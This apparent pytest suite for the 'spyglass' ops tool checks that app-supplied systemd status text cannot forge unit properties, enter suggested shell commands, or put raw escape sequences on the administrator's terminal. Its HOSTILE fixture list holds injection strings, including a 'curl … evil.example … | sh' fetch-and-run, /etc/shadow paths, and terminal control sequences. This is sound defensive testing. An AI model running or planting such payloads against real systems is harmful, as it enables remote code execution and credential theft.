"""Text of apps in systemd's answers and on the administrator's terminal: it is shown
and has no effect.
"""

import io
import json
import subprocess
import sys

import pytest

from spyglass.ops import command_table
from spyglass.ops.doctor_checks import units as unit_checks
from spyglass.ops.output import untrusted_text
from spyglass.ops.status import app_status
from spyglass.ops.systemd import systemctl

HOSTILE = [
    "failing: RuntimeError: x\u2028WantedBy=multi-user.target\u2028Id=spyglass@a; curl -s http://evil.example/x | sh #",
    "x\x85Id=spyglass@b.service\x85LoadState=masked",
    "x\x0bFragmentPath=/etc/shadow\x0cDropInPaths=/etc/shadow",
    "x\x1cMainPID=x\x1dNRestarts=²\x1eMemoryCurrent=٣",
    "x\r\rExecMainStatus=²\r\n",
    "awake: ² workers",
    "awake: " + "9" * 5000 + " workers",
    "waking: \x1b]0;title\x07\x1b[8m\x9b2J\u202e",
    "",
]


def shown(status, units, properties):
    """An answer of `systemctl show` with the app's own text in it."""
    blocks = []
    for unit in units:
        values = dict.fromkeys(properties, "") | {
            "Id": unit,
            "LoadState": "loaded",
            "ActiveState": "active",
            "SubState": "running",
            "MainPID": "1",
        }
        blocks.append(
            "".join(
                f"{name}={value}\n"
                for name, value in (
                    values | ({"StatusText": status} if "service" in unit else {})
                ).items()
            )
        )
    return "\n".join(blocks)


@pytest.fixture
def systemd(monkeypatch, tmp_path):
    """A systemd with the apps a, b and c, of which b has said `.status`; `.strange`
    makes its units have an empty line in a value.
    """
    monkeypatch.setattr("spyglass.config.settings.DIRECTORY", str(tmp_path))
    monkeypatch.setattr(app_status, "_STATE", str(tmp_path))

    class Systemd:
        status = ""
        strange = False

    def run(argv, **_):
        verb = argv[3] if argv[0] == "systemctl" else argv[0]
        said = ""
        if verb == "show":
            properties = (
                next(word for word in argv if word.startswith("--property="))
                .partition("=")[2]
                .split(",")
            )
            units = argv[argv.index("--") + 1 :]
            said = "\n".join(
                shown(Systemd.status if "@b." in unit else "awake: 2 workers", [unit], properties)
                for unit in units
            )
            if Systemd.strange:
                said = said.replace(
                    "Id=spyglass@b.service\n",
                    "Id=spyglass@b.service\nX=1\n\nId=spyglass@evil.service\n",
                )
        elif verb == "list-units":
            said = "".join(f"spyglass@{name}.socket loaded active listening x\n" for name in "abc")
        return subprocess.CompletedProcess(argv, 0, said.encode(), b"")

    monkeypatch.setattr(systemctl.subprocess, "run", run)
    return Systemd


@pytest.mark.parametrize("status", HOSTILE)
@pytest.mark.parametrize("strange", [False, True])
def test_status_text_of_one_app_does_not_affect_others(systemd, status, strange, capsys):
    systemd.status, systemd.strange = status, strange
    names = [name for name in "abc" for _ in range(2)]
    found = systemctl.show(
        [f"spyglass@{name}.{kind}" for name in "abc" for kind in ("socket", "service")],
        app_status.PROPERTIES,
    )
    assert [properties["Id"].partition("@")[2][0] for properties in found.values()] == names
    assert command_table.run(["list", "--json"]) == 0
    views_of = {view["name"]: view for view in json.loads(capsys.readouterr().out)}
    assert [views_of[name]["workers"] for name in "ac"] == [2, 2]
    for argv in (
        ["list"],
        ["doctor"],
        ["doctor", "--json"],
        ["status", "b"],
        ["status", "b", "--json"],
    ):
        assert command_table.run(argv) in (0, 1)
        said = capsys.readouterr()
        assert all(letter.isprintable() or letter == "\n" for letter in said.out + said.err)
        assert said.err == "" or "journal" in said.err


@pytest.mark.parametrize("status", HOSTILE)
def test_status_text_gets_into_no_command(systemd, status):
    systemd.status = status
    units = [f"spyglass@b.{kind}" for kind in ("socket", "service")]
    found = systemctl.show(units, dict.fromkeys((*app_status.PROPERTIES, *unit_checks.PROPERTIES)))
    for finding in unit_checks.examine("b", *found.values()):
        assert not any(
            "evil" in command or "shadow" in command or "spyglass@a" in command
            for command in finding.cure
        )


def test_unit_names_are_quoted_for_the_shell():
    service = {"Id": "spyglass@a\\x2db.service", "LoadState": "masked"}
    [first, *_] = unit_checks.examine("a\\x2db", {"Id": "spyglass@a\\x2db.socket"}, service)
    assert first.cure == ["systemctl unmask 'spyglass@a\\x2db.service'"]


@pytest.mark.parametrize(
    "text", ["²", "٣", "", "[not set]", "-1", "1_000", " 7", "9" * 5000, None, "infinity"]
)
def test_number_of_anything(text):
    assert untrusted_text.number(text, -1) == -1


def test_numbers_and_lines():
    assert untrusted_text.number("18446744073709551615") == 2**64 - 1
    assert untrusted_text.lines_of("a\u2028b\x85\r\nc\n\nd") == ["a\u2028b\x85\r", "c", "", "d"]
    assert untrusted_text.lines_of("") == []


class Terminal(io.StringIO):
    def isatty(self):
        return True


@pytest.mark.parametrize("stream", [io.StringIO, Terminal])
def test_printed_text_is_sanitized(monkeypatch, stream):
    monkeypatch.setattr(sys, "stdout", into := stream())
    monkeypatch.setattr(sys, "stderr", stream())
    monkeypatch.setenv("TERM", "xterm")
    with untrusted_text.filtered():
        print("a\x1b]0;x\x07b\x1b[8mc\u202ed\ud800\te")
        print("\033[1;31mred\033[m", end="")
        sys.stdout.writelines(["\x9b", "ok"])
    red = "\033[1;31mred\033[m" if stream is Terminal else "�[1;31mred�[m"
    assert into.getvalue() == f"a�]0;x�b�[8mc�d�\te\n{red}�ok"
    assert sys.stdout is into
